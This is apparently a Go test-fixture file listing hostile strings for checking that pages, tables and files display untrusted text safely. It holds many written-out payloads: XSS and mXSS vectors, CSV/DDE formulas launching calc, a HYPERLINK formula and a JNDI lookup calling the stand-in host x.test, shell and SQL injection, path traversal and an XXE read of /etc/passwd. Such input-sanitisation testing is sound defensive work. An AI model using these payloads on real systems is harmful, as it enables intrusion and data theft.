// Package hostile is texts for tests of whatever shows texts of people whom nobody knows: pages, tables, files.
package hostile

import (
	"slices"
	"strings"
)

// Texts break pages, tables and files whose authors trust texts. One that becomes markup or script
// sets window.pwned.
//
// After OWASP: XSS Filter Evasion Cheat Sheet and CSV Injection; Heiderich et al.: mXSS attacks, CCS 2013, section 4;
// Boucher, Anderson: Trojan Source, 2021; the Big List of Naughty Strings.
var Texts = slices.Concat(markup, contexts, templates, characters, elsewhere)

// markup ends or begins elements.
var markup = []string{
	`</script><script>window.pwned=1</script>`,
	`</ScRiPt ><sCrIpT >window.pwned=1</sCrIpT >`,
	"</script\n x=1\t>\n<script\tasync=\"\">window.pwned=1</script/>",
	`</script/><svg><script href=data:,window.pwned=1 />`,
	`<!--<script>window.pwned=1`,
	`--><script>window.pwned=1</script><!--`,
	`--!><img src=x onerror=window.pwned=1>`,
	`<![CDATA[<script>window.pwned=1</script>]]>`,
	`]]><img src=x onerror=window.pwned=1>`,
	`<?xml version="1.0"?><script>window.pwned=1</script>`,
	`<img src=x onerror=window.pwned=1>`,
	`<svg onload=window.pwned=1>`,
	`<svg/onload=window.pwned=1//`,
	`<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>`,
	`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
	`<object data="data:text/html,<script>parent.pwned=1</script>">`,
	`<meta http-equiv="refresh" content="0;url=javascript:window.pwned=1">`,
	`<base href="https://x.test/"><link rel=stylesheet href=//x.test/a.css>`,
	`</title><script>window.pwned=1</script>`,
	`</textarea><img src=x onerror=window.pwned=1>`,
	`</template></noscript></select></table></svg><img src=x onerror=window.pwned=1>`,
	`<plaintext>`,
	`<details open ontoggle=window.pwned=1><input autofocus onfocus=window.pwned=1>`,
	`<a href="javascript:window.pwned=1" autofocus>click</a><form><button formaction=javascript:window.pwned=1>`,
	`<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">`,
	`<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">`,
	"<listing>&lt;img src=x onerror=window.pwned=1&gt;</listing>",
}

// contexts end attributes, scripts, styles and JSON.
var contexts = []string{
	`"><svg onload=window.pwned=1>`,
	`'><svg onload=window.pwned=1>`,
	`" onmouseover="window.pwned=1" autofocus x="`,
	`' onmouseover='window.pwned=1' autofocus x='`,
	"` onmouseover=`window.pwned=1` x=`",
	"``onmouseover=window.pwned=1",
	`javascript:window.pwned=1`,
	"jAvA\tscript&colon;window.pwned=1",
	`data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==`,
	`data:text/html,<script>window.pwned=1</script>`,
	`}</style><script>window.pwned=1</script>`,
	`</STYLE  ><style>*{display:none}`,
	`x:expression(window.pwned=1)`,
	`;background:url(https://x.test/a.png);}`,
	`@import "https://x.test/a.css";`,
	`--s1`,
	`var(--ink)`,
	`\"};window.pwned=1;//`,
	`"}],"x":[{"y":"`,
	`\u003cscript\u003ewindow.pwned=1\u003c/script\u003e`,
	`';window.pwned=1;'`,
	`*/window.pwned=1;/*`,
	`__proto__`,
	`constructor`,
	`url(#x) fill="red"`,
}

// templates are what programs that fill in texts look for.
var templates = []string{
	`{{.Name}} {{template "x"}} {{define "page"}}{{end}}`,
	`{{constructor.constructor('window.pwned=1')()}}`,
	`{{7*7}} {% include "x" %} {# x #}`,
	`<%= window.pwned=1 %> <?php echo 1 ?> #{7*7} *{7*7} @{7*7}`,
	`${window.pwned=1} ${jndi:ldap://x.test/a}`,
	`$(touch x) ; touch x | touch x && %PATH%`,
	`__f__function(){window.pwned=1}__f__`, // go-echarts' mark of a function
	`{a|rich} {b} {c} {@x}`,                // labels and formatters of ECharts
	`{value} {b|{c}%} {a|`,
	`%s %d %!v(MISSING) %n`,
	`@light @dark`, // this page's own
	`<script>@light</script>`,
}

// characters are hard to show, or hide what is shown.
var characters = []string{
	"line\u2028separator\u2029and",
	"a\x00null\x00",
	"\ufeffmark of byte order",
	"a lone surrogate \xed\xa0\x80 and \xed\xbf\xbf",
	"no UTF-8 \xff\xfe \xc0\xaf \xe2\x82 \xf4\x90\x80\x80",
	"\xc0\xbcscript>window.pwned=1</script>", // an overlong <
	"\u202eright to left\u202c and \u202dleft to right",
	"\u2067isolated\u2069 \u2066\u2068without end",
	"\u200eleft\u200f\u061cright",
	"שלום עולם, abc 123 مرحبا",
	"zero\u200b\u200c\u200d\u2060\ufeffwidth\u00adsoft",
	"Z\u0351\u036b\u0343\u036a\u0302\u0346" +
		strings.Repeat("a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b", 20),
	"👩\u200d👩\u200d👧\u200d👦 👍🏽 🏳\ufe0f\u200d🌈 🇬🇧",
	"𝒯𝑒𝓍𝓉 ﷽ ㍿ ꧅ ＜script＞",
	"\U000e0001\U000e0041tags and \ue000private \uffff",
	strings.Repeat("long ", 2000),
	strings.Repeat("x", 10_000),
	strings.Repeat("<", 3_000),
	"one\ntwo\r\nthree\rfour\v\f\u0085five",
	"\n\n\n",
	"\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J\x1b[H \u009b31m \x9b31m",
	"gone\b\b\b\b\x7fback\rover",
	"   spaces \t tabs \u00a0\u2003\u3000  ",
	`&lt;b&gt;&amp;&#60;i&#x3e;&amp;lt;`,
	`&lt;script&gt;window.pwned=1&lt;/script&gt;`,
	`&notit; &copy &#0; &#x110000; &quot onload=window.pwned=1`,
}

// elsewhere are for spreadsheets, shells, databases, files and numbers.
var elsewhere = []string{
	`=HYPERLINK("http://x.test?"&A1,"click")`,
	`=cmd|' /C calc'!A0`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	"\x00=1+1",
	`'=1+1`,
	`a","=1+1",";=1+1;"` + "\n=1+1\r\n",
	`+1`,
	`-0`,
	`1e999`,
	`NaN`,
	`null`,
	`Robert'); DROP TABLE learners;--`,
	`' OR 1=1 --`,
	`../../../../etc/passwd`,
	`..\..\CON`,
	`file:///etc/passwd#x?y=%00%2e%2e`,
	`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
	`- !!python/object:os.system {a: *b, ? [c}: |`,
}
